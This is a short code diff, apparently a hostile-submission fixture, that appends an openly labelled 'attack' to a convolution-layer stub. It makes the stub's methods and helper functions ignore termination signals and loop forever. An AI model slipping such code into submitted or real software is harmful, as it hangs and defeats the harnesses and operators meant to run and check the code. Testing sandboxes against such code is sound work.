@@ -1,0 +1,17 @@
+
+
+# --- the attack, appended to the stub --------------------------------------
+
+import signal as _signal
+
+
+def _attack(*args, **kwargs):
+    for sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGXCPU):
+        _signal.signal(sig, _signal.SIG_IGN)
+    while True:
+        pass
+
+
+ConvLayer.__init__ = ConvLayer.forward = _attack
+ConvLayer.calculate_output_size = staticmethod(_attack)
+padding = conv = element_wise_op = get_patch = _attack
